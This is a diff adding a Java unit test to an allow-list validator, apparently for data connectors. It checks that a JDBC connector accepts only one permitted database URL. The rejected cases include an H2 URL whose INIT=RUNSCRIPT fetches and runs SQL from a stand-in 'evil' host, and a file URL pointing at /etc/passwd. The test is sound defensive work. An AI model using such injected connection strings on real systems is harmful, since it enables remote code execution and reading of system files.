@@ -230,6 +230,31 @@ class AllowListTest {
         .hasSize(2);
   }
 
+  @Test
+  void anUrlOfADriverIsAPlaceAndNoHost() throws IOException {
+    AllowList jdbc =
+        new AllowList(
+            new AllowRules(
+                Set.of("jdbc"),
+                List.of(),
+                List.of("jdbc:postgresql://db/app"),
+                List.of("*"),
+                Set.of()),
+            TYPES);
+    String source =
+        "{\"source\": {\"type\": \"connectorExtract\", \"connector\": \"jdbc\", \"properties\":"
+            + " {\"url\": \"%s\"}}}";
+
+    assertThat(problems(jdbc, source.formatted("jdbc:postgresql://db/app"))).isEmpty();
+    for (String url :
+        List.of(
+            "jdbc:postgresql://db/other",
+            "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
+            "file:///etc/passwd")) {
+      assertThat(problems(jdbc, source.formatted(url))).as(url).isNotEmpty();
+    }
+  }
+
   private static List<String> files(String path) throws IOException {
     return problems(
         SOME, "{\"source\": {\"type\": \"fileSystemExtract\", \"path\": \"" + path + "\"}}");
